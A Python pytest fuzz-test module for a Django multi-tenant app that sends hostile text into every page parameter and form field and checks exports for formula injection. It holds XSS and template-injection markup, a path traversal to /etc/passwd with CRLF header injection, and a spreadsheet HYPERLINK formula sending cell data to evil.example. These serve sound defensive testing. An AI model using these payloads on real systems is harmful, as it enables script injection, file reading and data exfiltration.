"""Text that should break something: into every parameter of every page, and into every field of every form."""

import csv
import io
import os
import re
import zipfile
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from django import forms
from django.db import models, transaction
from django.test import Client

from centers.models import Center, Role, User
from tests.factories import ResellerFactory
from tests.guards.addresses import Address, all_addresses
from tests.guards.rows import TenantRows, snapshot
from tests.guards.test_url_access import PUBLIC, signed_in, url_of
from tests.thorough import THOROUGH
from whatsapp.models import Instance

ROOT = Path(__file__).resolve().parents[2]
APPS = ("centers", "whatsapp", "billing", "config")
MINE = 800_001
#: What is asked of an address in its query, as the views write it: request.GET.get("q"), params.get("area"), ...
_READ = re.compile(r'\b(?:GET|POST|query|params)(?:\.get|\.getlist)?[(\[]"([a-z_]+)"')
MARKUP = "\"'><script>x</script><img src=x onerror=x>{{ 7|add:7 }}{% now %}"
TEXTS = {
    "nothing": "",
    "nul": "a\0b",
    "half a character": "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    + "\u202e\u2066x",
    "no number": "²٣NaN-1e999",
    "large number": "9" * 400,
    "negative": "-1",
    "day": "9999-12-31",
    "no day": "2026-02-30",
    "path": "../../etc/passwd\r\nX: y",
    "markup": MARKUP,
}
HUGE = "x" * 40_000
#: Of a query: pages repeat it in every link, so `make chaos` alone sends more.
LONG = HUGE if THOROUGH else "x" * 4_000
#: Ways to share the texts out; `make chaos` takes them all.
TURNS = int(os.environ.get("MARKAZ_FUZZ_TURNS", "1"))
#: Markup that is markup still, or that a template has run.
RAW = re.compile(r"<script>x|<img src=x|&gt;14(?:&lt;|\b)")


def mixed(names: list[str], turn: int, longest: str) -> dict[str, str]:
    """A text for every name, another one each turn; neighbours get different ones."""
    texts = [*TEXTS.values(), longest]
    return {name: texts[(place * 3 + turn * 5) % len(texts)] for place, name in enumerate(names)}


def parameters() -> list[str]:
    """Every name that a view reads."""
    found = {
        name
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        for name in _READ.findall(path.read_text())
    }
    return sorted(found | {"sort", "after", "before", "first", "last", "alert"})


def fields() -> list[str]:
    """Every field of every form, and what views read without one."""
    all_addresses()  # loads every view and so every form
    declared = {name for form in _forms(forms.BaseForm) for name in getattr(form, "base_fields", {})}
    return sorted(declared | set(parameters()))


def _forms(kind: type) -> Iterator[type]:
    for one in kind.__subclasses__():
        if one.__module__.split(".")[0] in APPS:
            yield one
        yield from _forms(one)


def reachable(rows: TenantRows) -> Iterator[tuple[Client, Address]]:
    """Every address of ours, each with the browser of a person who may open it."""
    owner, admin = signed_in(rows, Role.OWNER), signed_in(rows, Role.CENTER_ADMIN)
    for address in all_addresses():
        if address.audience or address.name in PUBLIC:
            yield admin if address.audience == "portal" else owner, address


@pytest.fixture
def rows(db: None) -> TenantRows:
    return TenantRows(ResellerFactory(), first_pk=MINE)


def test_there_is_something_to_fill_in() -> None:
    assert {"q", "center", "month", "state", "payment_status"} <= set(parameters())
    assert {"email", "amount", "instance_id", "percent", "logo_file", "api_key"} <= set(fields())


@pytest.mark.parametrize("turn", range(TURNS))
def test_no_query_breaks_a_page(rows: TenantRows, turn: int) -> None:
    query = mixed(parameters(), turn, LONG)
    pages = list(reachable(rows))
    before = snapshot(rows.reseller)
    wrong = []
    for client, address in pages:
        response = client.get(url_of(address, rows, rows.pk), query)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if response.status_code >= 500 or RAW.search(body.decode(errors="replace")):
            wrong.append(f"{address}: {response.status_code}")
    assert wrong == [], query
    assert snapshot(rows.reseller) == before


@pytest.mark.parametrize("turn", range(TURNS))
def test_no_form_breaks(rows: TenantRows, turn: int) -> None:
    data = mixed(fields(), turn, HUGE)
    wrong = []
    for client, address in reachable(rows):
        with transaction.atomic():
            response = client.post(url_of(address, rows, rows.pk), data)
            transaction.set_rollback(True)
        body = b"" if response.streaming else response.content
        if response.status_code >= 500 or RAW.search(body.decode(errors="replace")):
            wrong.append(f"{address}: {response.status_code}")
    assert wrong == [], data


class Marked(TenantRows):
    """Rows with markup in every text that people or MazBot choose freely."""

    TEXT = MARKUP

    def add(self, pk: int) -> None:
        super().add(pk)
        Center._base_manager.filter(pk=pk).update(
            name=self.TEXT, contact_name=self.TEXT, notes=self.TEXT, country_id=self.TEXT[:16]
        )
        Instance._base_manager.filter(pk=pk).update(label=self.TEXT[:80], raw_status=self.TEXT[:64])

    def _value(self, field: Any) -> Any:
        free = type(field) in (models.CharField, models.TextField) and not (field.choices or field.unique)
        if free and field.name not in ("currency", "job", "token_hash", "language"):
            return self.TEXT[: field.max_length or 200]
        return super()._value(field)

    def _values(self, model: type[models.Model]) -> dict[str, Any]:
        fields = [f for f in model._meta.concrete_fields if f.blank and f.empty_strings_allowed]
        empty = {field.name: self._value(field) for field in fields}
        texts = {name: text for name, text in empty.items() if text and text == self.TEXT[: len(str(text))]}
        return texts | super()._values(model)


class Formulas(Marked):
    """Rows whose texts are formulas to a spreadsheet, for every character it may split lines at."""

    TEXT = '=HYPERLINK("http://evil.example/"&A1,"x");=1+1\t@SUM(1)'


@pytest.mark.django_db
def test_markup_that_is_stored_is_shown_as_text() -> None:
    rows = Marked(
        ResellerFactory(name=MARKUP, support_contact=MARKUP, payment_instructions=MARKUP), first_pk=MINE
    )
    User.objects.update(name=MARKUP)
    shown = 0
    for client, address in reachable(rows):
        response = client.get(url_of(address, rows, rows.pk))
        assert response.status_code < 500, str(address)
        if "html" in response.headers.get("Content-Type", ""):
            text = response.content.decode()
            assert not RAW.search(text), str(address)
            shown += MARKUP[:30] in unescape(text)
    assert shown > 30, "the markup is on too few pages to say anything"


@pytest.mark.django_db
def test_no_export_holds_a_formula() -> None:
    rows = Formulas(ResellerFactory(), first_pk=MINE)
    cells = 0
    for client, address in reachable(rows):
        if "fmt" not in address.takes:
            continue
        url = url_of(address, rows, MINE)
        sheet = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
        for separator in ",;\t":
            found = [cell for row in csv.reader(io.StringIO(sheet), delimiter=separator) for cell in row]
            wrong = [
                cell for cell in found if cell.lstrip().startswith(("=", "@")) or cell[:1] in ("\t", "\r")
            ]
            assert wrong == [], f"{address}: split at {separator!r}"
        cells += sheet.count("HYPERLINK")
        book = b"".join(client.get(url.replace("/csv/", "/xlsx/")).streaming_content)
        with zipfile.ZipFile(io.BytesIO(book)) as archive:
            inside = {
                name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")
            }
        assert not any("<f>" in text or "<hyperlink" in text for text in inside.values()), str(address)
    assert cells >= 5, "no export held the formula as text"
